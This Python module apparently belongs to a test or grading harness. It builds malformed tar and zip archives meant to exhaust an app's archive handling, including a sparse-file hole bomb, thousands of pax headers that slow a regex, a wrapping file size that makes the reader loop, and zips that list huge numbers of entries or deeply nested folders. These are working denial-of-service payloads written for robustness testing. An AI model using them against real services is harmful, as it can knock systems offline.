"""Archives whose files are few and small, and which say so much about them that reading it takes all there is."""

import gzip
import tarfile
import zipfile
from collections.abc import Iterable, Iterator
from pathlib import Path

from .attack import MAIN, Project, attack

BLOCK = 512
CHECKSUM = slice(148, 156)
SAYS_TOO_MUCH = "says more about a file than there is to say"


def packed_tar(project: Project, blocks: Iterable[bytes]) -> Path:
    """Write a tar.gz of the app's main module and then these blocks."""
    file = project.folder.with_suffix(".tar.gz")
    main = (project.folder / MAIN).read_bytes()
    about = tarfile.TarInfo(MAIN)
    about.size = len(main)
    with gzip.open(file, "wb", compresslevel=1) as packed:
        packed.write(about.tobuf(tarfile.USTAR_FORMAT) + main + bytes(-len(main) % BLOCK))
        for block in blocks:
            packed.write(block)
    return file


def header(name: str, kind: bytes, size: int = 0, *, goes_on: bool = False) -> bytes:
    """Return the header of a file in a tar; `goes_on`: more about where it has holes comes behind it."""
    about = tarfile.TarInfo(name)
    about.type, about.size = kind, size
    block = bytearray(about.tobuf(tarfile.GNU_FORMAT))
    block[482] = goes_on
    block[CHECKSUM] = b" " * 8
    block[CHECKSUM] = b"%06o\0 " % sum(block)
    return bytes(block)


def listed(project: Project, names: Iterable[str]) -> Path:
    """Write a zip of the project whose directory also lists empty files, which share one place in it."""
    file = project.zipped()
    with zipfile.ZipFile(file, "a") as archive:
        start = archive.fp.tell()  # type: ignore[union-attr]
        archive.writestr("empty.pyc", b"")
        for name in names:
            entry = zipfile.ZipInfo(name)
            entry.header_offset, entry.CRC, entry.file_size, entry.compress_size = start, 0, 0, 0
            archive.filelist.append(entry)
        archive.start_dir = archive.fp.tell()  # type: ignore[union-attr]
    return file


@attack("no credit", SAYS_TOO_MUCH)
def holes_without_end(project: Project) -> Path:
    """List seventeen million holes of a sparse file in a tar, which take up gigabytes as a list."""
    holes = (b"%011o\0%011o\0" % (2**20 + 1, 2**20 + 1)) * 21 + b"\1" + bytes(7)

    def blocks() -> Iterator[bytes]:
        yield header("app/sparse.bin", tarfile.GNUTYPE_SPARSE, goes_on=True)
        for _ in range(380):
            yield holes * (2**20 // BLOCK)

    return packed_tar(project, blocks())


@attack("no credit", SAYS_TOO_MUCH)
def headers_of_digits(project: Project) -> Path:
    """Put thousands of headers into a tar in which an expression of Python's own looks for a word, digit by digit."""

    def blocks() -> Iterator[bytes]:
        size = 60 * 1024
        for number in range(2_000):
            yield header(f"{number}", tarfile.XHDTYPE, size) + b"1" * size
            yield header(f"app/{number}.txt", tarfile.REGTYPE)

    return packed_tar(project, blocks())


@attack("honest")
def environments_without_end(project: Project) -> Path:
    """List 18,000 virtual environments in a zip, and as many files to be looked for in each of them."""
    names = [f"{number}/pyvenv.cfg" for number in range(18_000)] + [f"{number}.pyc" for number in range(18_000)]
    return listed(project, names)


@attack("honest")
def names_of_many_folders(project: Project) -> Path:
    """List files in a zip whose names are 32,000 folders in one another each."""
    return listed(project, [f"{number}" + "/a" * 32_000 for number in range(60)])


@attack("no credit", "no app/main.py|n't a whole")
def a_header_that_leads_back(project: Project) -> Path:
    """Let a file in a tar be less than nothing long, so that the next one to be read is itself."""
    size = (2**64 - BLOCK).to_bytes(8, "big")
    block = bytearray(header("app/back.txt", tarfile.REGTYPE))
    block[124:136] = b"\xff" * 4 + size
    block[CHECKSUM] = b" " * 8
    block[CHECKSUM] = b"%06o\0 " % sum(block)
    file = project.folder.with_suffix(".tar")
    file.write_bytes(bytes(block) + bytes(2 * BLOCK))
    return file
